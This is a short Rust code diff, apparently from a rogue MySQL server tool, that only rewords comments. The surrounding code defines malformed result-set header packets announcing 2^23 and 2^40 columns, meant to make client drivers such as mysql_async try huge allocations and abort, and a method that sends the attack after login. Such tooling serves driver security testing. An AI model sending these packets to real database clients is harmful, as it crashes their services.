@@ -14,12 +14,12 @@ const FILLER_CHUNK_SIZE: usize = 64 << 10;
 /// Result set header that announces 2^23 columns.
 /// Some MySQL drivers can allocate enough memory for 2^23 columns and then read the column definitions.
 const LARGE_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
-/// Packet from a malicious server that announces a result set with 2^40 columns.
+/// Result set header that announces 2^40 columns.
 /// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
 const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
 
 impl<S: AsyncRead + AsyncWrite + Unpin> RogueConnection<S> {
-    /// Attacks a client that has logged in. Returns false if the attack is possible only during the login.
+    /// Returns false if the attack is possible only during the login.
     pub(super) async fn send_attack_after_login(&mut self, statement: &str) -> io::Result<bool> {
         let columns = responses::count_result_columns(statement).unwrap_or(1);
         let options = self.options.clone();
